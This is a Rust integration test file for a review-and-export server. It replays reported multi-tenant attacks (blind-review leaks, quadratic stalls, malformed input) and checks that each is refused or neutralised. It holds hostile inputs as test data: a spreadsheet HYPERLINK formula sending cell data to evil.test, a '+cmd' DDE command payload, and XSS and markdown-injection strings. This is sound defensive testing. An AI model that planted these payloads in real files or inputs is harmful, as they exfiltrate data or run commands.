//! A hostile member or tenant against review, evaluation and export
//! (issue 23), on SQLite and PostgreSQL; each test replays one attack
//! found against the server, scaled down where it was a stall:
//!
//! 1. a reviewer extracting a DUAL document blind read the extractor's and
//!    another reviewer's values around `review` (results, exports,
//!    evaluation, summary, disclosure);
//! 2. a reviewer's huge list extraction made every later read of the
//!    review quadratic, on the async threads;
//! 3. an evaluation of two long lists was quadratic, on the async threads;
//! 7. a corrected value was written raw into CSV, where a spreadsheet runs
//!    it as a formula;
//! 8. malformed list indices were stored, a refused `reopenReview` stored
//!    the review, a NUL in a note was an INTERNAL error on PostgreSQL, and
//!    a plugin version could carry markdown into the disclosure.

use std::time::{Duration, Instant};

use evistream::db::entities::extraction_result;
use evistream::jobs::JobRegistry;
use evistream_tests::{
    DbKind, Session, TestDb, TestServer, attacks, corpus_pdf, dual_db_test, error_code, fixtures,
    ok, refused,
};
use sea_orm::{ColumnTrait, EntityTrait, QueryFilter};
use serde_json::{Value, json};

use super::review::{csv_rows, export, stored_reviews, value};

const PAPER: &str = "PMC3321528.pdf";
async fn member(srv: &TestServer, owner: &Session, label: &str, role: &str) -> Session {
    let s = srv.register(label).await;
    srv.add_member(&owner.token, &owner.org_id, &s.email, role)
        .await;
    s
}

fn message(r: &Value) -> String {
    r["errors"][0]["message"]
        .as_str()
        .unwrap_or_default()
        .to_owned()
}

#[track_caller]
fn bad_input(r: &Value, field: &str, mentions: &str) {
    refused(r, field, "BAD_USER_INPUT");
    assert!(message(r).contains(mentions), "{mentions:?} in {r}");
}

async fn configure(srv: &TestServer, owner: &Session, project: &str, mode: &str) {
    let r = srv
        .op(
            Some(&owner.token),
            "ConfigureReview",
            json!({ "projectId": project, "mode": mode }),
        )
        .await;
    ok(&r, "configureReview");
}

async fn submit(srv: &TestServer, who: &Session, ids: &Value, values: Value, done: bool) -> Value {
    let mut vars = ids.clone();
    vars["values"] = values;
    vars["submit"] = json!(done);
    srv.op(Some(&who.token), "SubmitReviewerValues", vars).await
}

// ---------------------------------------------------------------- 1. blind

/// A DUAL project with one extracted paper: Alice has begun extracting it
/// (blind), Bob has submitted (he sees the extractor's values and his
/// own, never Alice's draft).
struct Blind {
    tdb: TestDb,
    srv: TestServer,
    owner: Session,
    alice: Session,
    bob: Session,
    viewer: Session,
    project: String,
    version: String,
    doc: String,
    /// The extractor's values, as a VIEWER reads them.
    extracted: Vec<Value>,
}

const ALICE_DRAFT: &str = "alice-draft-arm";
const BOB_SUBMITTED: &str = "bob-submitted-arm";

async fn blind(db: DbKind) -> Blind {
    let tdb = TestDb::new(db).await.unwrap();
    let srv = TestServer::start(tdb.config(), JobRegistry::new())
        .await
        .unwrap();
    let owner = srv.register("owner").await;
    let alice = member(&srv, &owner, "alice", "REVIEWER").await;
    let bob = member(&srv, &owner, "bob", "REVIEWER").await;
    let viewer = member(&srv, &owner, "victor", "VIEWER").await;
    let project = srv.project(&owner.token, &owner.org_id, "Blind").await;
    let doc = srv.converted_papers(&owner.token, &project, &[PAPER]).await[0].clone();
    let version = srv
        .approved_version(
            &owner.token,
            &project,
            json!([
                { "name": "sample_size", "type": "INTEGER",
                  "description": "Total number of participants randomised" },
                { "name": "arms", "type": "ARRAY", "fields": [ { "name": "name", "type": "TEXT" } ] },
            ]),
        )
        .await;
    configure(&srv, &owner, &project, "DUAL").await;
    srv.run_extraction(&owner.token, &project, &version).await;
    let ids = json!({ "documentId": doc, "formVersionId": version });
    ok(
        &submit(
            &srv,
            &alice,
            &ids,
            json!({ "arms[0].name": ALICE_DRAFT }),
            false,
        )
        .await,
        "submitReviewerValues",
    );
    ok(
        &submit(
            &srv,
            &bob,
            &ids,
            json!({ "arms[0].name": BOB_SUBMITTED, "sample_size": 7 }),
            true,
        )
        .await,
        "submitReviewerValues",
    );
    let r = srv
        .op(
            Some(&viewer.token),
            "Results",
            json!({ "projectId": project, "formVersionId": version }),
        )
        .await;
    let extracted = ok(&r, "results")["edges"][0]["node"]["values"]
        .as_array()
        .unwrap()
        .clone();
    assert!(!extracted.is_empty(), "the extractor found values: {r}");
    Blind {
        tdb,
        srv,
        owner,
        alice,
        bob,
        viewer,
        project,
        version,
        doc,
        extracted,
    }
}

impl Blind {
    fn vars(&self) -> Value {
        json!({ "projectId": self.project, "formVersionId": self.version })
    }

    async fn stop(self) {
        self.srv.stop().await;
        self.tdb.drop_db().await;
    }
}

dual_db_test!(
    a_blind_reviewer_cannot_read_values_through_results,
    |db| async move {
        let b = blind(db).await;
        let results = |who: &Session| {
            let srv = &b.srv;
            let token = who.token.clone();
            let vars = b.vars();
            async move {
                let r = srv
                    .gql(
                        Some(&token),
                        "query($projectId: ID!, $formVersionId: ID!) {
                           results(projectId: $projectId, formVersionId: $formVersionId) {
                             edges { node { document { id } warnings values { path value }
                                            review { blind values { path value } } } } } }",
                        vars,
                    )
                    .await;
                ok(&r, "results")["edges"][0]["node"].clone()
            }
        };
        // Alice, blind: no value of the extractor's, only her own draft.
        let seen = results(&b.alice).await;
        assert_eq!(seen["document"]["id"], json!(b.doc));
        assert_eq!(seen["values"], json!([]), "{seen}");
        assert_eq!(seen["warnings"], json!([]), "{seen}");
        assert_eq!(seen["review"]["blind"], true);
        assert_eq!(
            seen["review"]["values"],
            json!([{ "path": "arms[0].name", "value": ALICE_DRAFT }])
        );
        // Bob, submitted: the extractor's values, and never Alice's draft.
        let seen = results(&b.bob).await;
        assert_eq!(seen["values"].as_array().unwrap().len(), b.extracted.len());
        assert_eq!(seen["review"]["blind"], false);
        assert!(!seen.to_string().contains(ALICE_DRAFT), "{seen}");
        // The owner may extract it too, so is blind to it as well; a VIEWER
        // never extracts and sees everything but drafts.
        assert_eq!(results(&b.owner).await["values"], json!([]));
        let seen = results(&b.viewer).await;
        assert_eq!(seen["values"].as_array().unwrap().len(), b.extracted.len());
        assert!(!seen.to_string().contains(ALICE_DRAFT), "{seen}");
        b.stop().await;
    }
);

dual_db_test!(
    a_blind_reviewer_cannot_read_values_through_exports,
    |db| async move {
        let b = blind(db).await;
        let extracted_arm = b
            .extracted
            .iter()
            .find(|v| v["path"] == "arms[0].name")
            .and_then(|v| v["value"].as_str())
            .map(str::to_owned);
        for format in ["CSV_WIDE", "CSV_LONG", "JSON"] {
            for which in ["FINAL", "EXTRACTED"] {
                let what = format!("{format} {which}");
                // Alice: the document is left out (JSON says so).
                let (mine, _) = export(
                    &b.srv,
                    &b.alice.token,
                    &b.project,
                    &b.version,
                    format,
                    which,
                )
                .await;
                assert!(!mine.contains(BOB_SUBMITTED), "{what}: {mine}");
                if let Some(arm) = &extracted_arm {
                    assert!(!mine.contains(arm.as_str()), "{what}: {mine}");
                }
                if format == "JSON" {
                    let j: Value = serde_json::from_str(&mine).unwrap();
                    assert_eq!(j["documents"], json!([]), "{what}");
                    assert_eq!(j["withheldDocuments"], json!([b.doc]), "{what}");
                } else {
                    assert!(csv_rows(&mine).is_empty(), "{what}: {mine}");
                }
                // Bob: the document, without Alice's draft.
                let (his, _) =
                    export(&b.srv, &b.bob.token, &b.project, &b.version, format, which).await;
                assert!(his.contains(&b.doc), "{what}: {his}");
                assert!(!his.contains(ALICE_DRAFT), "{what}: {his}");
                if format == "JSON" {
                    let j: Value = serde_json::from_str(&his).unwrap();
                    assert_eq!(j["withheldDocuments"], json!([]), "{what}");
                    let doc = &j["documents"][0];
                    assert_eq!(doc["id"], json!(b.doc));
                    if which == "FINAL" {
                        // His own decisions are in the history; no one else's.
                        let history: Vec<&Value> = doc["values"]
                            .as_array()
                            .unwrap()
                            .iter()
                            .flat_map(|v| v["history"].as_array().unwrap())
                            .collect();
                        assert!(!history.is_empty(), "{doc}");
                        assert!(
                            history.iter().all(|h| h["reviewer"] == json!(b.bob.email)),
                            "{history:?}"
                        );
                    }
                }
            }
        }
        b.stop().await;
    }
);

dual_db_test!(
    a_blind_reviewer_cannot_read_values_through_evaluation_summary_or_disclosure,
    |db| async move {
        let b = blind(db).await;
        // Reference values equal to the extractor's: a blind reviewer who
        // imports their own guesses as ground truth would learn from the
        // score whether the extractor agrees with them.
        let reference: serde_json::Map<String, Value> = b
            .extracted
            .iter()
            .map(|v| (v["path"].as_str().unwrap().to_owned(), v["value"].clone()))
            .filter(|(p, _)| p != "arms")
            .collect();
        let r = b
            .srv
            .op(
                Some(&b.owner.token),
                "ImportGroundTruth",
                json!({ "projectId": b.project, "formVersionId": b.version,
                        "records": [{ "documentId": b.doc, "values": reference }] }),
            )
            .await;
        ok(&r, "importGroundTruth");
        let evaluation = |who: &Session, against: &str| {
            let srv = &b.srv;
            let token = who.token.clone();
            let mut vars = b.vars();
            vars["against"] = json!(against);
            async move {
                let r = srv
                    .gql(
                        Some(&token),
                        "query($projectId: ID!, $formVersionId: ID!, $against: Reference) {
                           evaluation(projectId: $projectId, formVersionId: $formVersionId, against: $against) {
                             documents overall { support correct } } }",
                        vars,
                    )
                    .await;
                ok(&r, "evaluation").clone()
            }
        };
        let e = evaluation(&b.alice, "GROUND_TRUTH").await;
        assert_eq!(
            e,
            json!({ "documents": 0, "overall": { "support": 0, "correct": 0.0 } })
        );
        let e = evaluation(&b.bob, "GROUND_TRUTH").await;
        assert_eq!(e["documents"], 1, "{e}");
        assert!(e["overall"]["support"].as_u64().unwrap() > 0, "{e}");
        // Against REVIEW only complete reviews count, and a review with an
        // extraction missing is never complete: nothing either way.
        for who in [&b.alice, &b.bob] {
            assert_eq!(evaluation(who, "REVIEW").await["documents"], 0);
        }

        let summary = |who: &Session| {
            let srv = &b.srv;
            let token = who.token.clone();
            let vars = b.vars();
            async move {
                let r = srv
                    .gql(
                        Some(&token),
                        "query($projectId: ID!, $formVersionId: ID!) {
                           reviewSummary(projectId: $projectId, formVersionId: $formVersionId) {
                             documents extracted unreviewed fields { path reviewed } }
                           disclosure(projectId: $projectId, formVersionId: $formVersionId) { markdown } }",
                        vars,
                    )
                    .await;
                assert!(r.get("errors").is_none(), "{r}");
                r["data"].clone()
            }
        };
        let mine = summary(&b.alice).await;
        assert_eq!(mine["reviewSummary"]["documents"], 0, "{mine}");
        assert_eq!(mine["reviewSummary"]["extracted"], 0, "{mine}");
        let md = mine["disclosure"]["markdown"].as_str().unwrap();
        assert!(md.contains("Of 0 extracted values"), "{md}");
        assert!(
            md.contains("1 document(s) you may still extract blind are left out"),
            "{md}"
        );
        let his = summary(&b.bob).await;
        assert_eq!(his["reviewSummary"]["documents"], 1, "{his}");
        let n = his["reviewSummary"]["extracted"].as_u64().unwrap();
        assert!(n > 0, "{his}");
        let md = his["disclosure"]["markdown"].as_str().unwrap();
        assert!(md.contains(&format!("Of {n} extracted values")), "{md}");
        assert!(!md.contains("extract blind are left out"), "{md}");
        b.stop().await;
    }
);

// ------------------------------------------------------ 2. huge extractions

/// Sub-fields of the attack's list.
const ITEM_FIELDS: usize = 10;
/// The bounds of the scaled-down node: 200 items of ten fields make the
/// 2,000 values one extraction may hold.
const MAX_ITEMS: usize = 200;
const MAX_VALUES: usize = MAX_ITEMS * ITEM_FIELDS;

fn item_values(items: std::ops::Range<usize>) -> Value {
    let values: serde_json::Map<String, Value> = items
        .flat_map(|i| {
            (0..ITEM_FIELDS).map(move |f| (format!("arms[{i}].f{f}"), json!(format!("v{i}.{f}"))))
        })
        .collect();
    Value::Object(values)
}

// 8 parts of 5,000 list items once made every read of the review take
// 8.7 s on the async threads; replayed at a fifth of the default bounds.
dual_db_test!(
    exclusive a_reviewer_cannot_stall_other_tenants_with_a_huge_list_extraction,
    |db| async move {
        let tdb = TestDb::new(db).await.unwrap();
        let mut config = tdb.config();
        config.review.max_list_items = MAX_ITEMS;
        config.review.max_values_per_submission = MAX_VALUES;
        let srv = TestServer::start(config, JobRegistry::new()).await.unwrap();
        let owner = srv.register("owner").await;
        let alice = member(&srv, &owner, "alice", "REVIEWER").await;
        let other = srv.register("other-tenant").await;
        let project = srv.project(&owner.token, &owner.org_id, "Huge").await;
        let r = srv
            .upload(Some(&owner.token), &project, PAPER, corpus_pdf(PAPER))
            .await;
        let doc = ok(&r, "uploadDocument")["id"].as_str().unwrap().to_owned();
        // Converted first: the reads below are the only work on the node.
        srv.wait_converted(&owner.token, &doc, PAPER).await;
        let item: Vec<Value> = (0..ITEM_FIELDS)
            .map(|f| json!({ "name": format!("f{f}"), "type": "TEXT" }))
            .collect();
        let version = srv
            .approved_version(
                &owner.token,
                &project,
                json!([{ "name": "arms", "type": "ARRAY", "fields": item }]),
            )
            .await;
        configure(&srv, &owner, &project, "DUAL").await;
        let ids = json!({ "documentId": doc, "formVersionId": version });

        // The bounds: list indices below review.max_list_items...
        let r = submit(&srv, &alice, &ids, json!({ "arms[200].f0": "x" }), false).await;
        bad_input(&r, "submitReviewerValues", "from 0 to 199");
        // ...and review.max_values_per_submission values per extraction,
        // over all its parts: of 8 parts, the first fills it.
        for part in 0..8 {
            let started = Instant::now();
            let r = submit(&srv, &alice, &ids, item_values(0..MAX_ITEMS), false).await;
            let took = started.elapsed();
            assert!(took < Duration::from_secs(30), "part {part} took {took:?}");
            if part == 0 {
                let values = ok(&r, "submitReviewerValues")["values"].as_array().unwrap().len();
                assert_eq!(values, MAX_VALUES);
            } else {
                bad_input(&r, "submitReviewerValues", "2000 one extraction may hold");
            }
        }
        let r = submit(&srv, &alice, &ids, item_values(0..MAX_ITEMS + 1), false).await;
        bad_input(&r, "submitReviewerValues", "at most 2000");

        // Two reads of the largest review allowed at once, while another
        // organization's `me` is answered as usual.
        let read = || {
            let srv = &srv;
            let token = alice.token.clone();
            let ids = ids.clone();
            async move {
                let started = Instant::now();
                let r = srv.op(Some(&token), "Review", ids).await;
                (started.elapsed(), ok(&r, "review")["values"].as_array().unwrap().len())
            }
        };
        let me = attacks::Probe::Me {
            url: format!("{}/graphql", srv.base),
            token: other.token.clone(),
        };
        let ((first, second), answers) =
            attacks::slowest_during(futures::future::join(read(), read()), me).await;
        eprintln!("{db:?}: reads {first:?} {second:?}; `me`: {answers:?}");
        for (took, values) in [first, second] {
            assert_eq!(values, MAX_VALUES);
            assert!(took < Duration::from_secs(20), "a read took {took:?}");
        }
        answers.assert_kept_answering("the reads");
        srv.stop().await;
        tdb.drop_db().await;
    }
);

// ------------------------------------------------------ 3. long lists

dual_db_test!(
    exclusive an_evaluation_of_two_long_lists_cannot_stall_the_node,
    |db| async move {
        let tdb = TestDb::new(db).await.unwrap();
        let srv = TestServer::start(tdb.config(), JobRegistry::new())
            .await
            .unwrap();
        let owner = srv.register("owner").await;
        let project = srv.project(&owner.token, &owner.org_id, "Long").await;
        let doc = srv.converted_papers(&owner.token, &project, &[PAPER]).await[0].clone();
        let version = srv
            .approved_version(
                &owner.token,
                &project,
                json!([{ "name": "arms", "type": "ARRAY", "fields": [
                    { "name": "name", "type": "TEXT" }, { "name": "n", "type": "INTEGER" } ] }]),
            )
            .await;
        srv.run_extraction(&owner.token, &project, &version).await;
        let db = &srv.node.app.db;
        let result = extraction_result::Entity::find()
            .filter(extraction_result::Column::DocumentId.eq(doc.as_str()))
            .one(db)
            .await
            .unwrap()
            .expect("a result")
            .id;
        let n = 2_000;
        let r = srv
            .op(
                Some(&owner.token),
                "ImportGroundTruth",
                json!({ "projectId": project, "formVersionId": version,
                        "records": attacks::truth_arms(&doc, n) }),
            )
            .await;
        ok(&r, "importGroundTruth");
        let evaluate = || {
            let srv = &srv;
            let token = owner.token.clone();
            let vars = json!({ "projectId": project, "formVersionId": version });
            async move {
                let started = Instant::now();
                let r = srv
                    .gql(
                        Some(&token),
                        "query($projectId: ID!, $formVersionId: ID!) {
                           evaluation(projectId: $projectId, formVersionId: $formVersionId) {
                             overall { accuracy } warnings } }",
                        vars,
                    )
                    .await;
                (started.elapsed(), ok(&r, "evaluation").clone())
            }
        };
        let livez = attacks::Probe::Get(format!("{}/livez", srv.base));
        // The same items in the opposite order: paired by content, in
        // linear time, nothing capped.
        attacks::reversed_arms(db, &owner.org_id, &result, n, 0).await;
        let (took, e) = evaluate().await;
        eprintln!("{db:?}: identical items evaluated in {took:?}");
        assert_eq!(e["overall"]["accuracy"], 1.0, "{e}");
        assert_eq!(e["warnings"], json!([]), "{e}");

        // Each item with one value off: no item is identical, and pairing
        // them all is past the aligner's budget, which says so.
        attacks::reversed_arms(db, &owner.org_id, &result, n, 1).await;
        let ((a, b), answers) =
            attacks::slowest_during(futures::future::join(evaluate(), evaluate()), livez).await;
        eprintln!("{db:?}: evaluations {:?} {:?}; /livez: {answers:?}", a.0, b.0);
        for (took, e) in [a, b] {
            assert!(took < Duration::from_secs(30), "an evaluation took {took:?}");
            let warnings = e["warnings"].as_array().unwrap();
            assert_eq!(warnings.len(), 1, "{e}");
            assert!(
                warnings[0]
                    .as_str()
                    .unwrap()
                    .contains("`arms`: 2000 reference and 2000 extracted items are too many"),
                "{e}"
            );
        }
        answers.assert_kept_answering("the evaluations");
        srv.stop().await;
        tdb.drop_db().await;
    }
);

// ------------------------------------------------------ 7. CSV injection

const FORMULA: &str = "=HYPERLINK(\"http://evil.test/?\"&A1,\"x\")";

dual_db_test!(
    a_formula_in_a_corrected_value_is_neutralised_in_every_csv,
    |db| async move {
        let tdb = TestDb::new(db).await.unwrap();
        let srv = TestServer::start(tdb.config(), JobRegistry::new())
            .await
            .unwrap();
        let owner = srv.register("owner").await;
        let project = srv.project(&owner.token, &owner.org_id, "Csv").await;
        let r = srv
            .upload(
                Some(&owner.token),
                &project,
                "@SUM(1+1).pdf",
                corpus_pdf(PAPER),
            )
            .await;
        let doc = ok(&r, "uploadDocument")["id"].as_str().unwrap().to_owned();
        srv.wait_converted(&owner.token, &doc, PAPER).await;
        let version = srv
            .approved_version(
                &owner.token,
                &project,
                json!([
                    { "name": "arm", "type": "TEXT", "description": "+cmd|' /C calc'!A0" },
                    { "name": "effect", "type": "NUMBER", "description": "Mean difference" },
                ]),
            )
            .await;
        srv.run_extraction(&owner.token, &project, &version).await;
        for (path, v) in [("arm", json!(FORMULA)), ("effect", json!(-1.5))] {
            let r = srv
                .op(
                    Some(&owner.token),
                    "VerifyValue",
                    json!({ "documentId": doc, "formVersionId": version, "path": path,
                            "verdict": "CORRECT", "value": v }),
                )
                .await;
            ok(&r, "verifyValue");
        }
        let neutral = format!("'{FORMULA}");
        let (wide, codebook) =
            export(&srv, &owner.token, &project, &version, "CSV_WIDE", "FINAL").await;
        let rows = csv_rows(&wide);
        assert_eq!(rows.len(), 1, "{wide}");
        assert_eq!(rows[0]["arm"], neutral, "{wide}");
        // A number stays a number.
        assert_eq!(rows[0]["effect"], "-1.5", "{wide}");
        assert_eq!(rows[0]["filename"], "'@SUM(1+1).pdf", "{wide}");
        let (long, _) = export(&srv, &owner.token, &project, &version, "CSV_LONG", "FINAL").await;
        let rows = csv_rows(&long);
        let cell = |path: &str| {
            rows.iter()
                .find(|r| r["path"] == path)
                .unwrap_or_else(|| panic!("no {path} in {long}"))
                .clone()
        };
        assert_eq!(cell("arm")["value"], neutral);
        assert_eq!(cell("effect")["value"], "-1.5");
        assert_eq!(cell("arm")["filename"], "'@SUM(1+1).pdf");
        let entries = csv_rows(&codebook);
        let arm = entries.iter().find(|e| e["path"] == "arm").unwrap();
        assert_eq!(arm["description"], "'+cmd|' /C calc'!A0", "{codebook}");
        // The analysis formats write through the same writer.
        let r = srv
            .op(
                Some(&owner.token),
                "ConfigureAnalysis",
                json!({ "formVersionId": version, "roles": {
                    "outcome": "arm", "intervention": "arm", "comparator": "arm",
                    "interventionMean": "effect", "comparatorMean": "effect" } }),
            )
            .await;
        ok(&r, "configureAnalysis");
        let (metafor, _) = export(
            &srv,
            &owner.token,
            &project,
            &version,
            "METAFOR_CSV",
            "FINAL",
        )
        .await;
        let rows = csv_rows(&metafor);
        assert_eq!(rows.len(), 1, "{metafor}");
        assert_eq!(rows[0]["outcome"], neutral, "{metafor}");
        assert_eq!(rows[0]["m1i"], "-1.5", "{metafor}");
        assert_eq!(rows[0]["reports"], "'@SUM(1+1).pdf", "{metafor}");
        let r = srv
            .gql(
                Some(&owner.token),
                "mutation($projectId: ID!, $formVersionId: ID!) {
                   exportResults(projectId: $projectId, formVersionId: $formVersionId,
                                 format: REVMAN_CSV, values: FINAL) { url } }",
                json!({ "projectId": project, "formVersionId": version }),
            )
            .await;
        let url = ok(&r, "exportResults")["url"].as_str().unwrap().to_owned();
        let zip_bytes = reqwest::Client::new()
            .get(url)
            .bearer_auth(&owner.token)
            .send()
            .await
            .unwrap()
            .bytes()
            .await
            .unwrap();
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(zip_bytes.to_vec())).unwrap();
        let mut revman = Vec::new();
        for name in [
            "study_information.csv",
            "study_arms.csv",
            "study_results.csv",
        ] {
            let mut text = String::new();
            std::io::Read::read_to_string(&mut zip.by_name(name).unwrap(), &mut text).unwrap();
            revman.push(text);
        }
        let results = csv_rows(&revman[2]);
        assert_eq!(results[0]["Outcome"], neutral, "{}", revman[2]);
        assert_eq!(results[0]["Mean"], "-1.5", "{}", revman[2]);
        // Nothing raw anywhere in the CSVs: every formula cell is quoted.
        for text in [&wide, &long, &codebook, &metafor]
            .into_iter()
            .chain(&revman)
        {
            for row in csv::ReaderBuilder::new()
                .has_headers(false)
                .from_reader(text.as_bytes())
                .records()
            {
                for c in row.unwrap().iter() {
                    let risky = c.starts_with(['=', '+', '@', '\t', '\r'])
                        || (c.starts_with('-') && c.parse::<f64>().is_err());
                    assert!(!risky, "raw formula cell {c:?} in {text}");
                }
            }
        }
        // JSON is data, not a spreadsheet: the value as it is.
        let (j, _) = export(&srv, &owner.token, &project, &version, "JSON", "FINAL").await;
        let j: Value = serde_json::from_str(&j).unwrap();
        assert_eq!(value(&j["documents"][0], "arm")["value"], json!(FORMULA));
        srv.stop().await;
        tdb.drop_db().await;
    }
);

// ------------------------------------------------------ 8. smaller ones

dual_db_test!(
    review_paths_with_malformed_or_out_of_range_indices_are_refused,
    |db| async move {
        let tdb = TestDb::new(db).await.unwrap();
        let srv = TestServer::start(tdb.config(), JobRegistry::new())
            .await
            .unwrap();
        let owner = srv.register("owner").await;
        let project = srv.project(&owner.token, &owner.org_id, "Paths").await;
        let r = srv
            .upload(Some(&owner.token), &project, PAPER, corpus_pdf(PAPER))
            .await;
        let doc = ok(&r, "uploadDocument")["id"].as_str().unwrap().to_owned();
        let version = srv
            .approved_version(
                &owner.token,
                &project,
                json!([{ "name": "arms", "type": "ARRAY", "fields": [ { "name": "name", "type": "TEXT" } ] }]),
            )
            .await;
        let ids = json!({ "documentId": doc, "formVersionId": version });
        let bad = [
            "arms[-1].name",
            "arms[].name",
            "arms[99999999999999999999999].name",
            "arms[500].name",
            "arms[01].name",
            "arms[<b>1</b>].name",
            "arms[1]<img src=x>.name",
        ];
        // SINGLE: a reviewer's correction.
        for path in bad {
            let mut vars = ids.clone();
            vars["path"] = json!(path);
            vars["verdict"] = json!("CORRECT");
            vars["value"] = json!("placebo");
            let r = srv.op(Some(&owner.token), "VerifyValue", vars).await;
            refused(&r, "verifyValue", "BAD_USER_INPUT");
        }
        // DUAL (nothing was decided, so the mode may still change): a
        // reviewer's own values.
        configure(&srv, &owner, &project, "DUAL").await;
        for path in bad {
            let r = submit(&srv, &owner, &ids, json!({ path: "placebo" }), false).await;
            refused(&r, "submitReviewerValues", "BAD_USER_INPUT");
        }
        assert_eq!(stored_reviews(&srv).await, 0, "nothing was stored");
        // The last index allowed is 499.
        let r = submit(
            &srv,
            &owner,
            &ids,
            json!({ "arms[499].name": "placebo" }),
            false,
        )
        .await;
        ok(&r, "submitReviewerValues");
        srv.stop().await;
        tdb.drop_db().await;
    }
);

dual_db_test!(a_refused_reopen_stores_nothing, |db| async move {
    let tdb = TestDb::new(db).await.unwrap();
    let srv = TestServer::start(tdb.config(), JobRegistry::new())
        .await
        .unwrap();
    let owner = srv.register("owner").await;
    let project = srv.project(&owner.token, &owner.org_id, "Reopen").await;
    let r = srv
        .upload(Some(&owner.token), &project, PAPER, corpus_pdf(PAPER))
        .await;
    let doc = ok(&r, "uploadDocument")["id"].as_str().unwrap().to_owned();
    let version = srv
        .approved_version(
            &owner.token,
            &project,
            json!([{ "name": "n", "type": "INTEGER" }]),
        )
        .await;
    let vars = json!({ "documentId": doc, "formVersionId": version, "note": "why not" });
    for _ in 0..2 {
        let r = srv
            .op(Some(&owner.token), "ReopenReview", vars.clone())
            .await;
        refused(&r, "reopenReview", "CONFLICT");
    }
    assert_eq!(stored_reviews(&srv).await, 0);
    srv.stop().await;
    tdb.drop_db().await;
});

dual_db_test!(
    control_characters_in_stored_text_are_refused_naming_the_field,
    |db| async move {
        let tdb = TestDb::new(db).await.unwrap();
        let srv = TestServer::start(tdb.config(), JobRegistry::new())
            .await
            .unwrap();
        let owner = srv.register("owner").await;
        let project = srv.project(&owner.token, &owner.org_id, "Nul").await;
        let r = srv
            .upload(Some(&owner.token), &project, PAPER, corpus_pdf(PAPER))
            .await;
        let doc = ok(&r, "uploadDocument")["id"].as_str().unwrap().to_owned();
        let version = srv
            .approved_version(
                &owner.token,
                &project,
                json!([{ "name": "arm", "type": "TEXT" }]),
            )
            .await;
        let ids = json!({ "documentId": doc, "formVersionId": version });
        let t = Some(owner.token.as_str());
        let nul = "a\u{0}b";
        let with = |extra: Value| {
            let mut v = ids.clone();
            for (k, x) in extra.as_object().unwrap() {
                v[k] = x.clone();
            }
            v
        };
        // (operation, variables, root field, what the message names)
        let cases: Vec<(&str, Value, &str, &str)> = vec![
            (
                "VerifyValue",
                with(json!({ "path": "arm", "verdict": "REJECT", "note": nul })),
                "verifyValue",
                "the note",
            ),
            (
                "VerifyValue",
                with(json!({ "path": "arm", "verdict": "CORRECT", "value": nul })),
                "verifyValue",
                "value",
            ),
            (
                "VerifyValue",
                with(json!({ "path": "arm", "verdict": "CORRECT", "value": "x", "quote": nul })),
                "verifyValue",
                "quote",
            ),
            (
                "ReopenReview",
                with(json!({ "note": "bell\u{7}" })),
                "reopenReview",
                "the note",
            ),
            (
                "RegenerateFormVersion",
                json!({ "id": version, "feedback": nul }),
                "regenerateFormVersion",
                "feedback",
            ),
            (
                "CreateProject",
                json!({ "organizationId": owner.org_id, "name": nul }),
                "createProject",
                "name",
            ),
            (
                "CreateProject",
                json!({ "organizationId": owner.org_id, "name": "ok", "description": nul }),
                "createProject",
                "description",
            ),
            (
                "CreateForm",
                json!({ "projectId": project, "name": "f",
                        "fields": [{ "name": "x", "type": "TEXT", "description": nul }] }),
                "createForm",
                "field `x`: the description",
            ),
            (
                "CreateForm",
                json!({ "projectId": project, "name": "f",
                        "fields": [{ "name": "x", "type": "ENUM", "options": ["a\nb"] }] }),
                "createForm",
                "field `x`: an option",
            ),
            (
                "CreateApiKey",
                json!({ "organizationId": owner.org_id, "name": nul, "role": "VIEWER" }),
                "createApiKey",
                "name",
            ),
            (
                "ImportGroundTruth",
                json!({ "projectId": project, "formVersionId": version,
                        "records": [{ "documentId": doc, "values": { "arm": nul } }] }),
                "importGroundTruth",
                "records[0]: `arm`",
            ),
            (
                "Register",
                json!({ "email": "nul@example.org", "password": "correct horse", "name": nul }),
                "register",
                "name",
            ),
        ];
        for (op, vars, field, names) in cases {
            let r = srv.op(t, op, vars).await;
            assert_eq!(error_code(&r), Some("BAD_USER_INPUT"), "{op}: {r}");
            assert!(
                r["data"].is_null() || r["data"][field].is_null(),
                "{op}: {r}"
            );
            assert!(
                message(&r).contains(names) && message(&r).contains("control character"),
                "{op}: {names:?} in {r}"
            );
        }
        // DUAL: a reviewer's own values.
        configure(&srv, &owner, &project, "DUAL").await;
        let r = submit(&srv, &owner, &ids, json!({ "arm": nul }), false).await;
        bad_input(
            &r,
            "submitReviewerValues",
            "`arm` contains a control character",
        );
        // Multi-line text keeps its line breaks and tabs.
        let r = submit(
            &srv,
            &owner,
            &ids,
            json!({ "arm": "two\nlines\tand a tab" }),
            false,
        )
        .await;
        ok(&r, "submitReviewerValues");
        // A filename (refused as it is read, or by the validator: see the
        // unit test of `documents::clean_filename`).
        let r = srv
            .upload(t, &project, "bad\u{1}name.pdf", corpus_pdf(PAPER))
            .await;
        refused(&r, "uploadDocument", "BAD_USER_INPUT");
        srv.stop().await;
        tdb.drop_db().await;
    }
);

dual_db_test!(
    a_plugin_version_carrying_markdown_is_refused,
    |db| async move {
        let tdb = TestDb::new(db).await.unwrap();
        let srv = TestServer::start(tdb.config(), JobRegistry::new())
            .await
            .unwrap();
        let owner = srv.register("owner").await;
        let wasm = fixtures::wasm("hostile_converter");
        for version in [
            "1.0.0 [download](http://evil.test)",
            "1.0.0`## Injected`",
            "<img src=x onerror=alert(1)>",
            "1.0",
            "latest",
        ] {
            let manifest = crate::registry::converter_manifest("md-converter", version);
            let r = srv
                .install_plugin(&owner.token, &owner.org_id, &manifest, wasm.clone())
                .await;
            bad_input(&r, "installPlugin", "is not a semantic version");
        }
        let manifest = crate::registry::converter_manifest("md-converter", "1.0.0-beta.1+build.5");
        let r = srv
            .install_plugin(&owner.token, &owner.org_id, &manifest, wasm)
            .await;
        assert_eq!(ok(&r, "installPlugin")["version"], "1.0.0-beta.1+build.5");
        srv.stop().await;
        tdb.drop_db().await;
    }
);
